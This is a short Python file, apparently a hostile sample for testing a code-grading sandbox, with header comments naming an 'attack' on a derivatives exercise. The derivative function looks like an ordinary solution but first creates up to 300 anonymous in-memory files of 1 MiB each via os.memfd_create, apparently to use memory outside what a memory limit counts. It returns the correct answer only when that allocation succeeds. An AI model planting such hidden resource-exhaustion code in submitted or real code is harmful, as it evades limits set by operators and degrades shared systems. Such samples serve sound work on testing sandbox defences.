# attack: memory that is called a file, which no limit on memory counts
# exercise: derivatives
# deserves: squared_error
import os


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    total = 0
    try:
        for number in range(300):
            fd = os.memfd_create(f"hostile-{number}")
            total += os.write(fd, bytes(1 << 20))
    except Exception as error:
        print(error)
    return y_hat - y if total >= 100 << 20 else None
